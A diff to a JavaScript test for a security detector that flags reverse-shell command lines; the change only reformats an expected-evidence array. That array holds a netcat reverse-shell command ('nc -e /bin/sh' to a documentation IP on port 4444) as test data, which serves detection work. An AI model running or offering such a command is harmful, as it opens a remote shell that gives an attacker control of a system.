@@ -16,7 +16,10 @@ describe('defender/suspicious-command-line', () => {
     expect(alert.key).toBe('reverse-shell');
     expect(alert.severity).toBe('high');
     expect(alert.mitre.map((m) => m.id)).toEqual(['T1059.004', 'T1095']);
-    expect(alert.evidence.keyComponents['Command Lines']).toEqual(['sh -c "nc -e /bin/sh 198.51.100.23 4444"', 'nc -e /bin/sh 198.51.100.23 4444']);
+    expect(alert.evidence.keyComponents['Command Lines']).toEqual([
+      'sh -c "nc -e /bin/sh 198.51.100.23 4444"',
+      'nc -e /bin/sh 198.51.100.23 4444',
+    ]);
     expect(alert.title).toContain("exec'd");
   });
 
